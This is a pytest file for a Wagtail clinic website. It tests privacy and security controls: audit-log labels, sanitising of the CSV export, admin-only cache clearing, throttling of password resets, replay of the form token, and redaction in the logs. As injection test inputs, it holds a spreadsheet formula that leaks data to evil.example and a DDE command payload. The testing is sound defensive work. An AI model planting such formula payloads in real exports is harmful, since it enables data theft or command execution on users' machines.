"""The paths around the roles: audit labels and exports, the page cache's admin, password resets, the fill-time
token, the app log, a treatment's Usage tab and login-restricted pages. Through the admin's and the site's views."""

import csv
import io
import logging

import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.test import Client
from wagtail.models import ModelLogEntry, PageViewRestriction
from wagtail.users.models import UserProfile

from contact.models import QuoteRequest
from tests.conftest import html
from tests.quote_helpers import INBOX, QUOTE_FORM, make_treatment, patient_post

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def staff(django_user_model, username, group, **names):
    user = django_user_model.objects.create_user(
        username, f"{username}@faceclinic.be", "not-a-real-password-123", **names
    )
    if group:
        user.groups.add(Group.objects.get(name=group))
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    client = Client()
    client.force_login(user)
    return user, client


def send(django_capture_on_commit_callbacks, language="en", **overrides):
    treatment = make_treatment()
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().post(QUOTE_FORM[language], patient_post(language, treatment[language], **overrides))
    assert response.status_code == 303
    return QuoteRequest.objects.order_by("-pk").first()


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# Audit log


def test_changing_a_requests_status_logs_no_patient_name(django_user_model, django_capture_on_commit_callbacks):
    request = send(django_capture_on_commit_callbacks, name="Camille Dubois")
    _desk, desk = staff(django_user_model, "desk", "Front desk")

    response = desk.post(f"{INBOX}edit/{request.pk}/", {"status": "contacted", "assignee": "", "new_note": ""})

    assert response.status_code == 302
    entries = ModelLogEntry.objects.filter(object_id=str(request.pk))
    assert entries.filter(action="wagtail.edit").exists()
    assert {entry.label for entry in entries} == {f"Quote request {request.pk}"}


def test_the_site_history_csv_holds_no_formula_and_its_export_is_logged(
    django_user_model, django_capture_on_commit_callbacks, admin_user
):
    request = send(django_capture_on_commit_callbacks, name=FORMULA)
    admin_user.first_name = "=cmd|' /C calc'!A0"
    admin_user.save()
    admin = Client()
    admin.force_login(admin_user)
    admin.post(f"{INBOX}edit/{request.pk}/", {"status": "contacted", "assignee": "", "new_note": ""})

    response = admin.get("/admin/reports/site-history/", {"export": "csv"})

    assert response.status_code == 200
    rows = csv_rows(response)
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "HYPERLINK" not in "".join(cell for row in rows for cell in row), "and the patient's name is not there"
    assert ModelLogEntry.objects.filter(action="accounts.site_history.export", user=admin_user).exists()


# The page cache's admin


def test_clearing_the_page_cache_needs_an_administrator_and_a_post(django_user_model, admin_client):
    from django.core.cache import caches

    pages = caches["pages"]
    pages.set("marker", 1)
    _marketer, marketer = staff(django_user_model, "marketing", "Marketing")

    assert marketer.get("/admin/cache/clearcache").status_code in (302, 403)
    assert marketer.post("/admin/cache/clearcache").status_code in (302, 403)
    assert pages.get("marker") == 1
    asked = admin_client.get("/admin/cache/clearcache")
    assert asked.status_code == 200 and pages.get("marker") == 1, "a GET only asks"

    assert admin_client.post("/admin/cache/clearcache").status_code == 302
    assert pages.get("marker") is None


# Password reset


def test_password_resets_are_throttled_per_address(django_user_model, settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    django_user_model.objects.create_user("desk", "desk@faceclinic.be", "not-a-real-password-123")

    statuses = [Client().post("/admin/password_reset/", {"email": "desk@faceclinic.be"}).status_code for _ in range(6)]

    assert statuses == [302] * 6, "the visitor reads the same answer each time"
    assert len(mail.outbox) == 3


def test_password_resets_are_throttled_per_visitor(django_user_model, settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    for n in range(12):
        django_user_model.objects.create_user(f"user{n}", f"user{n}@faceclinic.be", "not-a-real-password-123")

    for n in range(12):
        Client().post("/admin/password_reset/", {"email": f"user{n}@faceclinic.be"}, REMOTE_ADDR="203.0.113.9")

    assert len(mail.outbox) == 10


# The quote form's fill-time token


def test_one_fill_time_token_sends_one_request(settings):
    settings.QUOTE_RATE_LIMIT = 0
    treatment = make_treatment()
    data = patient_post("en", treatment["en"])

    first = Client().post(QUOTE_FORM["en"], data)
    replayed = [Client().post(QUOTE_FORM["en"], {**data, "email": f"r{n}@example.be"}) for n in range(3)]

    assert first.status_code == 303
    assert [response.status_code for response in replayed] == [200, 200, 200]
    assert QuoteRequest.objects.count() == 1


def test_a_fill_time_token_lives_two_hours():
    import time

    from contact import spam

    assert spam.FILL_TIME_MAX_AGE <= 2 * 60 * 60
    with pytest.raises(spam.FillTimeError):
        spam.check_fill_time(spam.fill_time_token(time.time() - 3 * 60 * 60))


# The app log


def test_a_refused_patient_address_is_neither_logged_nor_stored(django_capture_on_commit_callbacks, settings, caplog):
    from aiosmtpd.controller import Controller

    from tests.conftest import free_port, use_smtp

    class Refusing:
        async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
            if address.startswith("camille"):
                return "550 5.1.1 No such user"
            envelope.rcpt_tos.append(address)
            return "250 OK"

        async def handle_DATA(self, server, session, envelope):
            return "250 Message accepted for delivery"

    controller = Controller(Refusing(), hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        use_smtp(settings, controller.port)
        with caplog.at_level(logging.INFO):
            request = send(django_capture_on_commit_callbacks, "fr", email="camille.secret@example.be")
    finally:
        controller.stop()

    request.refresh_from_db()
    assert request.notification_status == "failed"
    assert "SMTPRecipientsRefused" in request.notification_error
    assert "camille" not in request.notification_error
    app_log = " ".join(record.getMessage() for record in caplog.records if not record.name.startswith("mail.log"))
    assert "SMTPRecipientsRefused" in app_log, "the failure is logged"
    assert "camille" not in app_log, "without the address"


# A treatment's Usage tab


def test_a_treatments_usage_tab_shows_no_quote_requests_to_marketing(
    django_user_model, django_capture_on_commit_callbacks
):
    treatment = make_treatment()
    for n in range(3):
        send(django_capture_on_commit_callbacks, email=f"p{n}@example.be", name=f"Patient Number{n}")
    _marketer, marketer = staff(django_user_model, "marketing", "Marketing")

    response = marketer.get(f"/admin/pages/{treatment['en'].pk}/usage/")

    assert response.status_code == 200
    text = html(response).get_text(" ")
    assert "Patient Number" not in text and "Quote request" not in text and "quote request" not in text


# Login-restricted pages


def test_a_login_restricted_translation_is_offered_neither_in_the_switcher_nor_in_hreflang(client):
    from django.core.cache import caches

    treatment = make_treatment()
    PageViewRestriction.objects.create(page=treatment["fr"], restriction_type=PageViewRestriction.LOGIN)
    caches["pages"].clear()

    page = html(client.get(treatment["en"].url))

    switcher = {a["hreflang"]: a["href"] for a in page.select(".language-switcher a")}
    assert switcher.get("fr") != treatment["fr"].url
    hreflangs = {link["hreflang"] for link in page.select('link[rel="alternate"][hreflang]')}
    assert "fr" not in hreflangs
    assert treatment["fr"].url not in client.get("/sitemap.xml").content.decode()
